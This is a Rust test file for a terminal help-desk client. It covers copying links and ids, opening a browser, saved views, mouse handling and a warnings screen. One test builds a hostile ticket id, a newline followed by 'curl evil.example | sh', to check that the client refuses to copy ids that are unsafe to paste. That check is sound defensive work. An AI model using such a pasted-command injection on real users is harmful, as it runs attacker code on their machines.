//! `y`, `Y` and `O` on a request, saved views, and the mouse (when it is on).

use crossterm::event::{MouseButton, MouseEvent, MouseEventKind};

use super::*;
use crate::config::{View, ViewSort};
use crate::domain::TicketId;

/// The request list focused, its cursor on the second request (1207).
fn on_1207() -> Model {
    let mut m = testing::loaded_model();
    for msg in [key(KeyCode::Tab), ch('j')] {
        send(&mut m, msg);
    }
    assert_eq!(
        m.requests.selected_key().map(|k| k.id.as_str()),
        Some("1207")
    );
    m
}

fn copies(effects: &[Effect]) -> Vec<&str> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::Copy { text, .. } => Some(text.as_str()),
            _ => None,
        })
        .collect()
}

#[test]
fn y_copies_the_selected_requests_link_and_shift_y_its_id() {
    let mut m = on_1207();
    let effects = update(&mut m, ch('y'));
    assert_eq!(
        copies(&effects),
        ["https://work.example/requests/show/index/id/1207"]
    );
    assert!(notice(&m).contains("copied the link"), "{}", notice(&m));
    let effects = update(&mut m, ch('Y'));
    assert_eq!(copies(&effects), ["1207"]);

    // In Detail: the open request, whichever row the list has.
    send(&mut m, key(KeyCode::Enter));
    send(&mut m, ch('k'));
    m.focus = Focus::Detail;
    assert_eq!(copies(&update(&mut m, ch('Y'))), ["1207"]);
}

#[test]
fn an_id_unsafe_to_paste_is_not_copied() {
    let mut m = on_1207();
    // The server's id itself is hostile: a line break would run what follows when pasted.
    let hostile = TicketId::from("1207\n curl evil.example | sh");
    m.detail.open = Some(crate::domain::TicketKey::new(ProfileId(0), hostile));
    m.focus = Focus::Detail;
    let effects = update(&mut m, ch('Y'));
    assert!(copies(&effects).is_empty());
    assert!(notice(&m).contains("not safe to paste"), "{}", notice(&m));
    // Its link is percent-encoded: safe.
    let effects = update(&mut m, ch('y'));
    assert_eq!(
        copies(&effects),
        ["https://work.example/requests/show/index/id/1207%0A%20curl%20evil.example%20%7C%20sh"]
    );
}

#[test]
fn o_opens_the_browser_there_is_and_copies_the_link_where_there_is_none() {
    let link = "https://work.example/requests/show/index/id/1207";
    let mut m = on_1207();
    m.settings.browser = Browser::Desktop(vec!["xdg-open".into()]);
    let effects = update(&mut m, ch('O'));
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::Launch { command, .. } if *command == ["xdg-open", link])),
        "{effects:?}"
    );

    m.settings.browser = Browser::Terminal(vec!["w3m".into()]);
    let effects = update(&mut m, ch('O'));
    assert!(
        effects.iter().any(|e| matches!(e, Effect::Suspend { command, edit: None, .. } if *command == ["w3m", link])),
        "a text browser gets the terminal: {effects:?}"
    );

    m.settings.browser = Browser::None;
    let effects = update(&mut m, ch('O'));
    assert_eq!(copies(&effects), [link]);
    assert!(
        notice(&m).starts_with("no browser on this host"),
        "{}",
        notice(&m)
    );
}

#[test]
fn a_vendor_without_web_pages_says_so() {
    let mut m = on_1207();
    m.sessions[0].label.web = None;
    m.sessions[0].label.vendor = "Rezolve".into();
    assert!(copies(&update(&mut m, ch('y'))).is_empty());
    assert!(
        notice(&m).contains("Rezolve gives no web address for a request"),
        "{}",
        notice(&m)
    );
    let effects = update(&mut m, ch('O'));
    assert!(
        !effects.iter().any(|e| matches!(
            e,
            Effect::Launch { .. } | Effect::Suspend { .. } | Effect::Copy { .. }
        )),
        "{effects:?}"
    );
    assert!(
        notice(&m).starts_with("cannot open a browser"),
        "{}",
        notice(&m)
    );
}

fn with_views() -> Model {
    let mut m = testing::loaded_model();
    m.settings.views = vec![
        (
            "printers".into(),
            View {
                profile: Some("work".into()),
                queue: Some("service desk > level 1".into()),
                status: None,
                filter: Some("printer".into()),
                sort: Some(ViewSort::Priority),
                key: None,
            },
        ),
        (
            "facilities".into(),
            View {
                profile: Some("work".into()),
                queue: Some("Plumbing".into()),
                ..View::default()
            },
        ),
    ];
    m
}

fn palette(m: &mut Model, line: &str) {
    send(m, ch(':'));
    press(m, line);
    send(m, key(KeyCode::Enter));
}

#[test]
fn a_saved_view_sets_queue_filter_and_sort_and_focuses_the_list() {
    let mut m = with_views();
    palette(&mut m, "view print");
    assert_eq!(m.queues.selected, QueueKey::Desk(ProfileId(0), "11".into()));
    assert!(
        m.queues.expanded.contains(&(ProfileId(0), "1".into())),
        "its desk is open"
    );
    assert_eq!(m.requests.filter, "printer");
    assert_eq!(m.requests.sort, SortOrder::Priority);
    assert_eq!(m.focus, Focus::Requests);
    assert_eq!(notice(&m), "view printers");
    // The key bound to a view does the same.
    let mut m = with_views();
    let effects = keys::act(&mut m, Action::View(0));
    testing::settle(&mut m, effects);
    assert_eq!(m.queues.selected, QueueKey::Desk(ProfileId(0), "11".into()));
}

#[test]
fn what_a_view_names_that_does_not_exist_is_said_and_the_rest_applies() {
    let mut m = with_views();
    palette(&mut m, "view facilities");
    assert_eq!(m.queues.selected, QueueKey::Profile(ProfileId(0)));
    assert_eq!(
        notice(&m),
        "view facilities: work has no help desk “Plumbing”"
    );
    palette(&mut m, "view nope");
    assert_eq!(
        notice(&m),
        "no saved view “nope” (views: printers, facilities)"
    );
}

fn mouse(kind: MouseEventKind, column: u16, row: u16) -> Msg {
    Msg::Mouse(MouseEvent {
        kind,
        column,
        row,
        modifiers: KeyModifiers::NONE,
    })
}

#[test]
fn the_mouse_scrolls_and_clicks_the_pane_under_it() {
    let mut m = testing::loaded_model();
    send(
        &mut m,
        Msg::Resize {
            width: 120,
            height: 30,
        },
    );
    let requests = m.screen().requests.unwrap();
    // The third request row: below the border and the column headings.
    // From the Queues pane a click on the selected row only moves there.
    send(
        &mut m,
        mouse(
            MouseEventKind::Down(MouseButton::Left),
            requests.x + 5,
            requests.y + 2,
        ),
    );
    assert_eq!((m.focus, m.requests.cursor), (Focus::Requests, 0));
    assert!(m.detail.open.is_none(), "one click does not open");
    let row = requests.y + 1 + 1 + 2;
    send(
        &mut m,
        mouse(MouseEventKind::Down(MouseButton::Left), requests.x + 5, row),
    );
    assert_eq!(m.focus, Focus::Requests);
    assert_eq!(m.requests.cursor, 2);
    // A click on the selected row opens it.
    send(
        &mut m,
        mouse(MouseEventKind::Down(MouseButton::Left), requests.x + 5, row),
    );
    assert_eq!(
        m.detail.open.as_ref().map(|k| k.id.as_str()),
        m.requests.selected_key().map(|k| k.id.as_str())
    );
    m.focus = Focus::Requests;
    send(&mut m, mouse(MouseEventKind::ScrollUp, requests.x + 5, row));
    assert_eq!(m.requests.cursor, 0, "three lines up, stopped at the top");
}

#[test]
fn e_shows_every_warning_and_each_profiles_full_reason() {
    use crate::provider::{Answer, ProviderError};
    let mut m = testing::model();
    m.remember(
        NoticeLevel::Warning,
        "ttydesk.toml:12: [keys.global] `o` = …: does not act in the Requests pane",
    );
    let effects = testing::start(&mut m);
    let (p, id) = effects
        .iter()
        .find_map(|e| match e {
            Effect::Call {
                profile,
                id,
                call: Call::Catalog { .. },
            } => Some((*profile, *id)),
            _ => None,
        })
        .unwrap();
    let long = "the server sent an HTML page instead of data (a login page or a proxy?): \
                “Corporate proxy — sign in to continue”; check base_url, and that nothing between \
                you and the server asks for a login";
    let answer = Answer::Catalog(Err(ProviderError::Connect(long.into())));
    let effects = update(
        &mut m,
        Msg::Answer {
            profile: p,
            id,
            answer,
        },
    );
    testing::settle(&mut m, effects);
    send(
        &mut m,
        Msg::Resize {
            width: 80,
            height: 24,
        },
    );

    send(&mut m, ch('E'));
    assert_eq!(m.mode, Mode::Messages { scroll: 0 });
    let screen = testing::drawn(&mut m, 80, 24);
    // The whole reason, wrapped, where the status bar had room for its start.
    for part in [
        "“Corporate",
        "sign in to continue",
        "asks for a login",
        "[keys.global] `o`",
        "Requests pane",
    ] {
        assert!(screen.contains(part), "{part}:\n{screen}");
    }
    send(&mut m, key(KeyCode::Esc));
    assert_eq!(m.mode, Mode::Normal);
}
